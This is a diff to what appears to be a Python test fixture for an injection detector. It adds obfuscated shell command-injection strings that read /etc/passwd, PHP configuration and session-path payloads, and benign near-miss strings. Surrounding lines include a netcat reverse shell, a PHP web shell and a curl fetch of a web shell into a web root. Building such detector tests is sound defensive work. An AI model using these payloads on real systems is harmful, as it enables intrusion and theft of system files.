@@ -75,6 +75,11 @@ COMMANDS = {
     "brace affixes": ["{l,-lh}s", "c{a,oun}t", "{,ifconfig}", "{,$'whoami',}", "{n$u\\c$u,-nlvp,777}\n"],
     "expansions": ["~+", "~+5", "~-1", "${PATH#{}/}", "${x#{}}", "cat ${HOME:0:1}etc${HOME:0:1}passwd",
                    "cat ${test//hh??hm/}"],
+    # the shell's special parameters as noise inside words; '+' for spaces when the value has none; variables
+    # assigned quoted, escaped or as a glob; `at` scheduling a job
+    "noise": ["c$$at /et$$c/pas$$swd", "x;c$?at /et$_c/pas$!swd", "www.example.com;c$_at+/et$_c/pas$_swd",
+              ";cat+/etc/passwd", "c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4/etc/passwd", ";at 2:00 \"echo test\"",
+              "| at now < /tmp/job"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -102,6 +107,7 @@ COMMAND_NEAR_MISSES = [
     "~5 minutes", "~ 10", "${price}", "${user.name}", "rock'n'roll", "'cat' food", "don't 'go'",
     "ssh-agent is running", "reg add is how a script writes a key to the registry on each start",
     "net user growth was strong this year and more came later on",
+    "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
 ]
 CODE_PAYLOADS = {
     "php": ["<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
@@ -112,7 +118,10 @@ CODE_PAYLOADS = {
             "$a(1)", "$$b(2)", "$o->$m()", "$f\r\n (23)", "$a //x\n()", "$x[5]['d'] /*y*/ (17)", "$k=@$s_f(22)",
             '"system"(ls);', "(system)(whoami)", '"\\x73y\\x73tem"(ls);', "exec\t(blah)", "exec  (blah)",
             "exec#\n (blah)", "symlink//c\n()", "touch/*a\r\nb*/()", "pi\x0b()", "FILE\r\n()",
-            "pg_query(", "array_diff (", "<?=1?>", "<?xml :echo 1;", "$ {$a}", "$ {'fdf'}", "${'_V'.'AR'}"],
+            "pg_query(", "array_diff (", "<?=1?>", "<?xml :echo 1;", "$ {$a}", "$ {'fdf'}", "${'_V'.'AR'}",
+            # php.ini directives set by a whole value; a session file named by its path; a [\php] tag
+            "auto_prepend_file=/tmp/x.txt", "engine=true", "opcache.jit=1255", 'allow_url_include = "On"',
+            "/var/lib/php/sessions/sess_0123456789abcdefghij", "C:\\temp\\sess_abcdefghij0123456789", "x[\\php]"],
     "node": ["console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");", "module.exports=x",
              "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}'],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
@@ -130,6 +139,7 @@ CODE_PAYLOADS = {
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
 CODE_NEAR_MISSES = [
+    "precision=2 digits after the point", "the engine=true flag", "sess_0123456789abcdefghijk", "smtp server down",
     "Hello {{ first_name }}", "{{ user.name }}", "{% if user %}Hi{% endif %}", "${price}", "Total: ${total}",
     "7*7=49", "3 * 4 + 5", "the file system (ext4) is fast", "eval (the evaluation) is due", "print (color)",
     "my system (as designed)", "<?xml version=\"1.0\"?><a/>", "{\"a\": {\"b\": 1}}", "100% <b>bold</b>",
